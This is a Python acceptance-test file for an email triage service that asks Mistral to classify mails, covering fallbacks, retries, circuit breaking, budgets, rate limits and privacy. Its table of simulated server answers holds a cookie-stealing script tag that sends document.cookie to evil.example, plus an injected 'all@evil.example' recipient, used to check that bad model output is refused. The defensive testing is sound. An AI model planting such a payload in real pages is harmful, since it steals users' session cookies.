"""Mistral in operation: whatever it does, every mail has its verdict, its words are kept, and it costs what it may."""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from prefect.client.orchestration import get_client
from pydantic import SecretStr

from blocks import MistralApi
from byreturn.doctor import list_judging
from demo.house import flush_prefect
from deployments.setup import fill_gaps
from desk.circuit import FIRST_REST, PATIENCE
from desk.errors import ConfigurationError
from store.engine import writing
from store.views import MailView
from tasks.asking import Patience
from tasks.opening import DESK
from tasks.pacing import AT_ONCE, PER_SECOND, find_limit
from tests.acceptance.mistral import MODEL, ask_mistral, fill_block, set_limits
from tests.acceptance.scene import Scene
from tests.acceptance.test_degrade import SUBJECT, handle, hear, is_partial, write_mail
from tests.acceptance.test_privacy import dump_prefect
from tests.fake_mistral import FakeMistral, Mode, Reply, Request
from tests.stores import count_rows, look_up, tables

HASTE = Patience(pause=timedelta(0))
SOUND = {
    "reason": "no password", "category": "account", "priority": "normal", "language": "fr", "confidence": 0.99,
    "wants_human": False, "confirms_solved": False, "complexity": "normal", "impact": "one",
}  # fmt: skip
ACCOUNT = {"category": "account", "confidence": 0.99}


@pytest.fixture(autouse=True)
def hurry(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody waits between two tries, unless the server asks for it."""
    monkeypatch.setattr("tasks.judging.PATIENT", HASTE)


def write_some(*names: str) -> list[bytes]:
    """Mails of as many senders."""
    return [write_mail(name, f"lea@{name}.example") for name in names]


def get_sources(scene: Scene) -> list[str]:
    return [one.source for one in scene.mails]


def list_judgements(scene: Scene, view: MailView, *columns: str) -> list[tuple[Any, ...]]:
    """These columns of every judgement about a mail."""
    found = [look_up(scene.store, "judgement", column, message_id=view.message_id) for column in columns]
    return list(zip(*found, strict=True))


def change_circuit(scene: Scene, **values: object) -> None:
    with writing(scene.store.engine) as connection:
        connection.execute(sa.update(tables()["engine_state"]).values(**values))


# --- whatever it answers -------------------------------------------------------------------------------------


def spoil(**changes: Any) -> str:
    return json.dumps(SOUND | changes)


SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
# subject's word → what the server does, what the model says, the trouble that is kept, how the kept answer begins
MOODS: dict[str, tuple[Mode, str, str, str]] = {
    "good": (Mode.GOOD, "", "", '{"reason"'),
    "slow": (Mode.SLOW, "", "model-unavailable", ""),
    "throttled": (Mode.THROTTLED, "", "model-throttled", ""),
    "down": (Mode.DOWN, "", "model-unavailable", ""),
    "cut-off": (Mode.CUT_OFF, "", "model-unavailable", ""),
    "rejected": (Mode.REJECTED, "", "model-rejected", ""),
    "malformed": (Mode.MALFORMED, "", "model-answer", ""),
    "truncated": (Mode.TRUNCATED, "", "model-answer", '{"id"'),
    "huge": (Mode.HUGE, "", "model-answer", '{"reason": "éé'),
    "empty": (Mode.EMPTY, "", "model-answer", ""),
    "choiceless": (Mode.CHOICELESS, "", "model-answer", ""),
    "other-category": (Mode.BREAKING, spoil(category="refund_everybody"), "model-answer", '{"reason"'),
    "further-field": (Mode.BREAKING, spoil(recipient="all@evil.example"), "model-answer", '{"reason"'),
    "half": (Mode.BREAKING, spoil()[:60], "model-answer", '{"reason"'),
    "script": (Mode.BREAKING, SCRIPT, "model-answer", "<script>"),
    "sure-beyond-one": (Mode.BREAKING, spoil(confidence=7.0), "model-answer", '{"reason"'),
}


class Moody(FakeMistral):
    """Behaves as the mail's subject says."""

    def reply_to(self, request: Request, headers: Any) -> Reply:
        words = str(request["messages"][-1]["content"])
        self.mode, self.content, *_ = next(mood for name, mood in MOODS.items() if f"humeur {name}." in words)
        return super().reply_to(request, headers)


def test_whatever_mistral_does_every_mail_has_its_verdict_and_all_that_was_said_is_kept(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("desk.circuit.PATIENCE", 1_000)  # else it is left alone after some silences
    mails = [write_mail(name, f"lea@{name}.example", f"{SUBJECT}, humeur {name}.") for name in MOODS]
    with ask_mistral(Moody(answer=ACCOUNT, retry_after="0"), seconds=0.5):
        set_limits(1, 1_000)  # for it has one mood at a time
        state = handle(scene, *mails)
    assert is_partial(state)
    assert "Mistral: model-answer" in str(state.message)
    views = dict(zip(MOODS, scene.mails, strict=True))
    assert all(one.verdict for one in views.values())
    sources = {name: one.source for name, one in views.items()}
    assert sources == dict.fromkeys(MOODS, "local") | {"good": "mistral"}
    for name, (_, _, trouble, beginning) in MOODS.items():
        kept = list_judgements(scene, views[name], "source", "role", "trouble", "answer")
        assert kept[0][:3] == ("mistral", "trouble" if trouble else "verdict", trouble), name
        assert kept[0][3].startswith(beginning), name
        assert [one[:3] for one in kept[1:]] == ([("local", "verdict", "")] if trouble else []), name


FULL = ("category", "priority", "language", "complexity", "impact", "wants_human", "confirms_solved", "confidence",
        "explanation", "model", "input_tokens", "output_tokens", "source", "role")  # fmt: skip


def test_a_judgement_is_kept_whole_with_its_price_and_version_and_prefect_knows_none_of_it(
    scene: Scene, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    answer = SOUND | {"reason": "quetzalcoatl wrote", "wants_human": True, "impact": "several", "complexity": "complex"}
    with ask_mistral(FakeMistral(answer=answer)):
        handle(scene, write_mail())
    (view,) = scene.mails
    (kept,) = list_judgements(scene, view, *FULL)
    assert kept == (
        "account", "normal", "fr", "complex", "several", True, False, 0.99, "quetzalcoatl wrote", MODEL, 321, 45,
        "mistral", "verdict",
    )  # fmt: skip
    ((prompt, version, cost, answer_kept),) = list_judgements(
        scene, view, "prompt", "policy_version", "cost_eur", "answer"
    )
    assert len(prompt) == 12
    assert len(version) == 16
    assert cost == pytest.approx((321 * 0.14 + 45 * 0.56) / 1e6)
    assert json.loads(answer_kept).items() >= answer.items()
    flush_prefect()
    held = dump_prefect(scene.house.home) + caplog.text
    assert "classify-and-reply" in held
    words = ("quetzalcoatl", prompt, '"complex"', "'complex'")  # Prefect may call a run complex-otter
    assert [word for word in words if word in held] == []


# --- tried again -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [Mode.THROTTLED, Mode.DOWN, Mode.CUT_OFF])
def test_a_storm_that_passes_costs_no_verdict(scene: Scene, mode: Mode) -> None:
    with ask_mistral(FakeMistral(answer=ACCOUNT, retry_after="0", script=[mode] * 2)) as fake:
        state = handle(scene, write_mail())
    assert state.is_completed()
    assert get_sources(scene) == ["mistral"]
    assert len(fake.requests) == 3
    assert look_up(scene.store, "engine_state", "failures") in ([], [0])


def test_a_pause_that_is_too_long_is_not_waited_for_and_kept_by_all(scene: Scene) -> None:
    with ask_mistral(FakeMistral(Mode.THROTTLED, retry_after="86400")) as fake:
        before = datetime.now(UTC)
        handle(scene, write_mail("1"))
        handle(scene, write_mail("2"))
    assert get_sources(scene) == ["local", "local"]
    assert len(fake.requests) == 1
    (until,) = look_up(scene.store, "engine_state", "open_until")
    assert timedelta(minutes=9) < until - before < timedelta(minutes=11)
    assert hear(scene, "mistral") == ["model-throttled"]


# --- the circuit -------------------------------------------------------------------------------------------------


def test_a_judge_that_is_down_is_left_alone_by_the_next_run_and_taken_back_by_one_probe(scene: Scene) -> None:
    with ask_mistral(FakeMistral(Mode.DOWN, answer=ACCOUNT)) as fake:
        assert is_partial(handle(scene, *write_some("a", "b", "c", "d", "e", "f")))
        tried = len(fake.requests)
        assert PATIENCE <= tried <= PATIENCE + 3  # what was on its way when it opened
        state = handle(scene, *write_some("g", "h"))
        assert "Mistral: model-resting" in str(state.message)
        assert len(fake.requests) == tried
        assert get_sources(scene) == ["local"] * 8

        change_circuit(scene, open_until=datetime.now(UTC))
        handle(scene, *write_some("i", "j", "k"))
        assert len(fake.requests) == tried + 1  # the probe
        assert look_up(scene.store, "engine_state", "rest_seconds") == [2 * FIRST_REST.total_seconds()]

        fake.mode = Mode.GOOD
        change_circuit(scene, open_until=datetime.now(UTC))
        handle(scene, write_mail("l"))
        assert look_up(scene.store, "engine_state", "open_until") == [None]
        assert handle(scene, *write_some("m", "n")).is_completed()
    assert get_sources(scene) == ["local"] * 11 + ["mistral"] * 3
    assert hear(scene, "mistral") == ["model-unavailable", "well again"]


@pytest.mark.parametrize(
    ("mode", "alert", "code", "remedy"),
    [
        (Mode.RETIRED, "mistral-model", "model-retired", "dated name"),
        (Mode.UNKNOWN, "mistral-model", "model-retired", "dated name"),
        (Mode.REFUSED, "mistral-key", "model-refused", "API key"),
    ],
)
def test_what_only_a_person_can_mend_is_told_with_its_remedy_and_asked_again_once_the_block_is_another(
    scene: Scene, mode: Mode, alert: str, code: str, remedy: str
) -> None:
    with ask_mistral(FakeMistral(mode, answer=ACCOUNT), model="mistral-small-2402") as fake:
        state = handle(scene, write_mail("1"))
        assert f"Mistral: {code}" in str(state.message)
        handle(scene, write_mail("2"))
        assert len(fake.requests) == 1
        assert hear(scene, alert) == [code]
        assert remedy in look_up(scene.store, "alert", "remedy", key=alert)[0]
        fake.mode = Mode.GOOD
        fill_block(fake)
        assert handle(scene, write_mail("3")).is_completed()
    assert get_sources(scene) == ["local", "local", "mistral"]
    assert hear(scene, alert) == [code, "well again"]
    assert hear(scene, "mistral") == []


# --- the budget --------------------------------------------------------------------------------------------------

TWO_CALLS = [("budget_eur: 5.0 ", "budget_eur: 0.00014 ")]


@pytest.mark.parametrize("policy", [TWO_CALLS], indirect=True)
def test_a_spent_budget_leaves_the_rest_of_the_day_to_the_local_judge_and_is_told_once(
    scene: Scene, policy: None
) -> None:
    with ask_mistral(FakeMistral(answer=ACCOUNT)) as fake:
        assert all(handle(scene, write_mail(name)).is_completed() for name in ("1", "2"))
        states = [handle(scene, write_mail(name)) for name in ("3", "4")]
        assert ["Mistral: budget-spent" in str(state.message) for state in states] == [True, True]
        assert len(fake.requests) == 2
        assert hear(scene, "mistral-budget") == ["budget-spent"]
        with writing(scene.store.engine) as connection:
            connection.execute(sa.update(tables()["spending"]).values(day="2026-01-01"))
        assert handle(scene, write_mail("5")).is_completed()
    assert get_sources(scene) == ["mistral", "mistral", "local", "local", "mistral"]
    assert hear(scene, "mistral-budget") == ["budget-spent", "well again"]
    assert look_up(scene.store, "spending", "calls") == [2, 1]
    assert look_up(scene.store, "spending", "micro_eur", day="2026-01-01") == [142]


def test_an_answer_that_is_of_no_use_is_counted_all_the_same(scene: Scene) -> None:
    with ask_mistral(FakeMistral(Mode.BREAKING, content="{}")):
        handle(scene, write_mail())
    assert get_sources(scene) == ["local"]
    assert look_up(scene.store, "spending", "micro_eur") == [71]


@pytest.mark.parametrize("policy", [[("budget_eur: 5.0 ", "budget_eur: 0.0 ")]], indirect=True)
def test_without_a_budget_mistral_is_not_asked_and_nobody_is_alarmed(scene: Scene, policy: None) -> None:
    with ask_mistral(FakeMistral()) as fake:
        assert handle(scene, write_mail()).is_completed()
    assert (get_sources(scene), fake.requests) == (["local"], [])
    assert scene.hook.posts == []


# --- limits ------------------------------------------------------------------------------------------------------


@pytest.fixture
def two_workers(scene: Scene) -> Iterator[tuple[FakeMistral, list[subprocess.Popen[str]]]]:
    """Two processes ready to ask, each from eight threads, though three requests at once are allowed."""
    command = [sys.executable, "-m", "tests.acceptance.mistral", "8", "8"]
    environment = {**os.environ, "PREFECT_API_URL": scene.house.url}
    with ask_mistral(FakeMistral(crowd=4, lonely_s=0.5)) as fake:
        set_limits(3, 1_000)
        pipes: dict[str, Any] = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "text": True}
        workers = [subprocess.Popen(command, env=environment, **pipes) for _ in range(2)]
        try:
            assert [str(worker.stdout and worker.stdout.readline()) for worker in workers] == ["ready\n"] * 2
            yield fake, workers
        finally:
            for worker in workers:
                worker.kill()
                worker.communicate()


def let_go(workers: list[subprocess.Popen[str]]) -> list[str]:
    """Let both ask; what each says that judged."""
    for worker in workers:
        assert worker.stdin
        worker.stdin.write("\n")
        worker.stdin.flush()
    return [worker.communicate(timeout=120)[0].strip() for worker in workers]


def test_two_workers_together_ask_no_more_at_once_than_the_limit_allows(
    two_workers: tuple[FakeMistral, list[subprocess.Popen[str]]],
) -> None:
    fake, workers = two_workers
    assert let_go(workers) == ["{'mistral': 8}"] * 2
    assert len(fake.requests) == 16
    assert 1 < fake.busiest <= 3


def test_two_workers_together_ask_no_more_in_a_second_than_the_limit_allows(
    two_workers: tuple[FakeMistral, list[subprocess.Popen[str]]],
) -> None:
    fake, workers = two_workers
    set_limits(8, 2)
    assert let_go(workers) == ["{'mistral': 8}"] * 2
    # two that were saved up and two that came meanwhile; one may have been late on its way
    assert max(sum(begun <= one < begun + 1 for one in fake.moments) for begun in fake.moments) <= 5


def test_a_limit_that_lets_nobody_in_leaves_the_mails_to_the_local_judge(scene: Scene) -> None:
    with ask_mistral(FakeMistral(), seconds=0.2) as fake:
        set_limits(0, 1_000)
        state = handle(scene, *write_some("a", "b"))
    assert "Mistral: model-busy" in str(state.message)
    assert (get_sources(scene), fake.requests) == (["local"] * 2, [])
    assert look_up(scene.store, "engine_state", "failures") == []  # that is not its fault
    assert hear(scene, "mistral") == []


# --- a server of one's own ---------------------------------------------------------------------------------------


def test_a_server_of_ones_own_is_asked_without_a_key_costs_nothing_and_needs_no_price(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MISTRAL_API_KEY", "somebody-elses")
    with ask_mistral(FakeMistral(answer=ACCOUNT), model="qwen3-8b") as fake:
        assert handle(scene, write_mail()).is_completed()
    assert get_sources(scene) == ["mistral"]
    assert fake.headers[0]["authorization"] == "Bearer none"
    assert fake.requests[0]["model"] == "qwen3-8b"
    assert look_up(scene.store, "judgement", "cost_eur") == [0.0]
    assert hear(scene, "mistral-price") == []


# --- whom it must not hear of -----------------------------------------------------------------------------------


def test_a_contact_whom_another_writes_about_is_not_named_to_mistral(scene: Scene) -> None:
    known = write_mail("1").replace("Léa <".encode(), b"Quetzal Xocoyotl <")
    told = write_mail("2", "paul@b.example", text="Bonjour, quetzal xocoyotl n'arrive plus à se connecter.")
    with ask_mistral(FakeMistral(answer=lambda request: ACCOUNT | {"reason": read_code(request)})) as fake:
        handle(scene, known)
        handle(scene, told)
    assert "connecter" in str(fake.requests[1])
    assert "xocoyotl" not in str(fake.requests).lower()
    assert look_up(scene.store, "judgement", "explanation")[1] == "quetzal xocoyotl has no access"


def read_code(request: Request) -> str:
    """A reason that names whom the mail names, as far as a model can know."""
    named = re.search(r"Bonjour, (\S+) n'arrive", str(request["messages"][-1]["content"]))
    return f"{named[1]} has no access" if named else "no access"


# --- side by side ------------------------------------------------------------------------------------------------


def test_the_mails_of_a_batch_are_judged_side_by_side(scene: Scene) -> None:
    with ask_mistral(FakeMistral(answer=ACCOUNT, crowd=4)) as fake:
        assert handle(scene, *write_some(*"abcdefgh")).is_completed()
    assert get_sources(scene) == ["mistral"] * 8
    assert fake.busiest == 4


def test_a_mail_that_breaks_its_judging_does_not_hold_up_those_beside_it(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tasks.judging import judge_mail

    def stumble(bench: Any, mail: Any, *more: Any) -> Any:
        if mail.sender.domain == "b.example":
            raise ZeroDivisionError
        return judge_mail(bench, mail, *more)

    monkeypatch.setattr("tasks.deciding.judge_mail", stumble)
    with ask_mistral(FakeMistral(answer=ACCOUNT)):
        state = handle(scene, *write_some("a", "b", "c"))
    assert "1 to be tried again" in str(state.message)
    assert [one.verdict for one in scene.mails] == ["answered", "", "answered"]
    assert count_rows(scene.store, "judgement", source="mistral") == 2


# --- rules first -------------------------------------------------------------------------------------------------

BANK = "rules: [{name: bank, when: {header: {x-bank: 'yes*'}}, category: billing}] "
BY_RULE = [("rules: []   ", BANK)]


@pytest.mark.parametrize("policy", [BY_RULE], indirect=True)
def test_what_a_rule_sorts_no_model_sees(scene: Scene, policy: None) -> None:
    with ask_mistral(FakeMistral(answer=ACCOUNT)) as fake:
        handle(scene, write_mail("1", more="X-Bank: yes indeed\n"), write_mail("2", "paul@b.example"))
    assert [(one.source, one.category) for one in scene.mails] == [("rule", "billing"), ("mistral", "account")]
    assert len(fake.requests) == 1


# --- set-up and doctor -------------------------------------------------------------------------------------------


def read_limits() -> dict[str, tuple[int, float]]:
    with get_client(sync_client=True) as client:
        found = {name: find_limit(client, name) for name in (AT_ONCE, PER_SECOND)}
    return {name: (limit.limit, limit.slot_decay_per_second) for name, limit in found.items() if limit}


def test_set_up_makes_the_limits_once_and_leaves_those_of_the_operator(scene: Scene) -> None:
    with get_client(sync_client=True) as client:
        for name in (AT_ONCE, PER_SECOND):
            client.delete_global_concurrency_limit_by_name(name)
    assert read_limits() == {}
    fill_gaps(scene.home)
    assert read_limits() == {AT_ONCE: (4, 0.0), PER_SECOND: (5, 5.0)}
    set_limits(2, 3)
    fill_gaps(scene.home)
    assert read_limits() == {AT_ONCE: (2, 0.0), PER_SECOND: (3, 3.0)}


def test_mails_are_judged_where_nobody_has_made_the_limits(scene: Scene) -> None:
    with ask_mistral(FakeMistral(answer=ACCOUNT)), get_client(sync_client=True) as client:
        for name in (AT_ONCE, PER_SECOND):
            client.delete_global_concurrency_limit_by_name(name)
        assert handle(scene, write_mail()).is_completed()
        assert "no limit byreturn-mistral, byreturn-mistral-per-second is active" in look_into("Mistral's limits")
        fill_gaps(scene.home)
        assert look_into("Mistral's limits") == "byreturn-mistral 4, byreturn-mistral-per-second 5"
    assert get_sources(scene) == ["mistral"]


def look_into(what: str) -> str:
    """What the doctor finds of Mistral's work."""
    try:
        return dict(list_judging())[what]()
    except ConfigurationError as fault:
        return str(fault)


def test_the_doctor_tells_of_a_model_without_date_or_price_and_of_what_is_spent(scene: Scene) -> None:
    assert list_judging() == []
    key = SecretStr("key")
    MistralApi(api_key=key, model="mistral-small-latest").save(DESK, overwrite=True)
    assert "its name has no date" in look_into("Mistral's model")
    assert "has no price" in look_into("Mistral's budget")
    MistralApi(api_key=key, model=MODEL).save(DESK, overwrite=True)
    assert look_into("Mistral's model") == f"{MODEL} at https://api.mistral.ai"
    assert look_into("Mistral's budget") == "0.00 of 5.00 € spent today"
    MistralApi(server_url="http://127.0.0.1:9", model="own").save(DESK, overwrite=True)
    assert look_into("Mistral's budget") == "0.00 of 5.00 € spent today"


def test_a_model_of_mistrals_without_a_price_is_told_once(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    with ask_mistral(FakeMistral(answer=ACCOUNT), model="mistral-large-2512") as fake:
        monkeypatch.setattr("tasks.judging.MISTRAL_URL", fake.url)
        assert all(handle(scene, write_mail(name)).is_completed() for name in ("1", "2"))
        assert hear(scene, "mistral-price") == ["no-price"]
        fill_block(fake)
        handle(scene, write_mail("3"))
    assert hear(scene, "mistral-price") == ["no-price", "well again"]
